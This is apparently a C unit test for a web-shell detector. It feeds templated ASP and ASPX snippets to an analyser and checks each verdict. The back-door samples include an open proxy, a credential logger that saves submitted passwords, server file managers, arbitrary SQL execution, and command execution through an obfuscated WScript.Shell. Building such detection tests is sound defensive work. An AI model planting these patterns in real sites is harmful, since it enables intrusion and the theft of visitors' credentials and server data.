#include "test.h"

#include "base/num.h"
#include "shape_text.h"
#include "webshell/analyse.h"

enum { ROOM = 48 << 20 };

struct judge_case { const char *plan, *why; enum page_kind kind; enum page_verdict verdict; enum page_what what; };

#define CS(code) "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { " code " }</{s}>"
#define FSO "Set f = CreateObject(\"Scripting.FileSystemObject\")\n"
#define HTTP "Set h = CreateObject(\"MSXML2.XMLHTTP\")\n"
#define CONN "Set n = CreateObject(\"ADODB.Connection\")\n"
#define SHELL "CreateObject(\"WSc\" & \"ript.Sh\" & \"ell\")"

static const struct judge_case cases[] = {
    { "{o}\n" HTTP "h.Open \"GET\", {r}(\"u\"), False\nh.Send\nResponse.Write h.ResponseText\n{c}", "fetches what it is told and hands it over", PAGE_ASP, PAGE_BACK_DOOR, WHAT_PROXY },
    { "{o}\n" HTTP "h.Open \"GET\", \"http://news.bakery.example/\" & {r}(\"u\"), False\nh.Send\nResponse.Write h.ResponseText\n{c}", "from one place only", PAGE_ASP, PAGE_CLEAN, WHAT_NONE },
    { "{o}\n" HTTP "h.Open \"GET\", {r}(\"u\"), False\nh.Send\nResponse.Write h.Status\n{c}", "says only whether it is there", PAGE_ASP, PAGE_REVIEW, WHAT_PROXY },
    { CS("Response.Write(new System.Net.WebClient().DownloadString({r}[\"u\"]));"), "the same in C#", PAGE_ASPX, PAGE_BACK_DOOR, WHAT_PROXY },
    { "{o}\n" HTTP "h.Open \"POST\", \"http://127.0.0.1:\" & {r}(\"p\") & \"/x\", False\nh.Send {r}(\"d\")\n{c}", "speaks to services of the server", PAGE_ASP, PAGE_BACK_DOOR, WHAT_TUNNEL },
    { "{o}\n" HTTP "h.Open \"POST\", \"http://127.0.0.1:8080/\" & {r}(\"p\"), False\nh.Send {r}(\"d\")\n{c}", "to one of them", PAGE_ASP, PAGE_CLEAN, WHAT_NONE },
    { "{o}\nSet c = CreateObject(\"ADOX.Catalog\")\nc.Create \"Provider=Microsoft.Jet.OLEDB.4.0;Data Source=\" & Server.MapPath({r}(\"m\"))\n" FSO
      "For Each i In f.GetFolder(Server.MapPath(\"/\")).Files\nSet s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.LoadFromFile i.Path\nNext\n{c}", "packs all there is", PAGE_ASP, PAGE_BACK_DOOR, WHAT_FILE_MANAGER },
    { "{o}\n" FSO "Set t = f.CreateTextFile(\"c:\\a.vbs\")\nt.Write \"x = 1\"\nt.Close\n" SHELL ".Run \"wscript c:\\a.vbs\"\n{c}", "writes a program and starts it", PAGE_ASP, PAGE_BACK_DOOR, WHAT_LOADER },
    { "{o}\n" FSO "Set t = f.CreateTextFile(\"c:\\a.vbs\")\nt.Write \"x = 1\"\nt.Close\n" SHELL ".Run \"backup\"\n{c}", "starts another", PAGE_ASP, PAGE_REVIEW, WHAT_COMMAND },
    { "{o}\n" FSO "Set t = f.OpenTextFile(\"c:\\a.txt\", 8)\nt.WriteLine {r}(\"username\")\nt.WriteLine {r}(\"password\")\n{c}", "writes down what visitors type", PAGE_ASP, PAGE_BACK_DOOR, WHAT_OTHER },
    { "{o}\n" FSO "Set t = f.OpenTextFile(\"c:\\a.txt\", 8)\nt.WriteLine {r}(\"username\")\nt.WriteLine {r}(\"comment\")\n{c}", "a guest book", PAGE_ASP, PAGE_REVIEW, WHAT_UPLOADER },
    { CS("System.IO.File.AppendAllText(\"c:\\\\a.log\", {r}.Form[\"username\"] + \":\" + {r}.Form[\"password\"]);"), "the same in C#", PAGE_ASPX, PAGE_BACK_DOOR, WHAT_OTHER },
    { "{o}\n" FSO "Set t = f.OpenTextFile(Server.MapPath({r}.ServerVariables(\"SCRIPT_NAME\")), 8)\nt.WriteLine {r}(\"a\")\n{c}", "writes into itself", PAGE_ASP, PAGE_BACK_DOOR, WHAT_UPLOADER },
    { "{o}\n{x} \"x = 1 : Set s = \" & \"" "CreateObject(\"\"WSc\"\" & \"\"ript.Sh\"\" & \"\"ell\"\") : s.Run \"\"backup\"\"\"\n{c}", "a program start in a text", PAGE_ASP, PAGE_BACK_DOOR, WHAT_COMMAND },
    { "{o}\n" SHELL ".Run \"backup\"\n{c}", "a program start in the open", PAGE_ASP, PAGE_REVIEW, WHAT_COMMAND },
    { "{o}\n" CONN "n.Open \"Provider=SQLOLEDB;Server=\" & {r}(\"s\")\nSet t = n.Execute(\"select * from [\" & {r}(\"t\") & \"]\")\n{c}", "any table of any server", PAGE_ASP, PAGE_BACK_DOOR, WHAT_SQL },
    { "{o}\n" CONN "n.Open \"Provider=SQLOLEDB;Server=\" & {r}(\"s\")\nn.Execute {r}(\"q\")\n{c}", "any statement on any server", PAGE_ASP, PAGE_BACK_DOOR, WHAT_SQL },
    { "{o}\n" CONN "n.Open \"DSN=shop\"\nSet t = n.Execute(\"select * from [\" & {r}(\"t\") & \"]\")\n{c}", "any table of one", PAGE_ASP, PAGE_CLEAN, WHAT_NONE },
    { "{o}\n" CONN "n.Open \"DSN=shop\"\nn.Execute {r}(\"q\")\n{c}", "any statement on one", PAGE_ASP, PAGE_REVIEW, WHAT_SQL },
    { "{o}\n" FSO "p = {r}(\"p\")\nIf Len(p) = 0 Then\np = f.GetFolder(Server.MapPath(\"/\"))\nEnd If\nFor Each i In f.GetFolder(p).Files\nResponse.Write i.Name\nNext\n"
      "Set s = CreateObject(\"ADODB.Stream\")\ns.LoadFromFile f.GetFile({r}(\"f\")).Path\nResponse.BinaryWrite s.Read\n{c}", "a path of the request or a folder; a file by its path", PAGE_ASP, PAGE_BACK_DOOR, WHAT_FILE_MANAGER },
    { "{o}\nCreateObject(\"MSWC.Tools\").ProcessForm {r}(\"a\"), {r}(\"b\")\n{c}", "a form tool writes a file", PAGE_ASP, PAGE_BACK_DOOR, WHAT_UPLOADER },
    { "{o}\nSet a = CreateObject(\"ASPExec.Execute\")\na.Application = {r}(\"a\")\nResponse.Write a.ExecuteDosApp\n{c}", "a component that starts programs", PAGE_ASP, PAGE_BACK_DOOR, WHAT_COMMAND },
    { "{o}\nSet a = CreateObject(\"MSXML2.DOMDocument\")\nSet b = CreateObject(\"MSXML2.DOMDocument\")\nb.loadXML \"<x xmlns:m='urn:schemas-microsoft-com:xslt'><m:{s} language='{j}'>function g(v) "
      "{ return new ActiveXObject('WSc' + 'ript.Sh' + 'ell').Exec(v); }</m:{s}></x>\"\na.transformNode b\n{c}", "a style sheet with a script that starts programs", PAGE_ASP, PAGE_BACK_DOOR, WHAT_COMMAND },
};

static void test_cases(void **state)
{
    size_t bad = 0;

    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        char              text[4096];
        size_t            n = shape_text(text, sizeof text, cases[i].plan);
        struct test_arena keep = test_arena(1 << 20), t = test_arena(ROOM);
        struct str        in = test_heap(text, n);
        struct analysis   r = { 0 };
        struct err        e = { 0 };

        CHECK_WHY(analyse_page(&r, &keep.a, t.a, &(const struct analyse_input){ .bytes = in, .kind = cases[i].kind }, &e), cases[i].why);
        if (r.verdict != cases[i].verdict || r.what != cases[i].what) {
            print_message("%s: %s, %s: %.*s\n", cases[i].why, analyse_verdict_name(r.verdict), analyse_what_name(r.what), STR_ARG(r.why));
            bad++;
        }
        test_free(in);
        test_arena_free(&t);
        test_arena_free(&keep);
    }
    CHECK(bad == 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
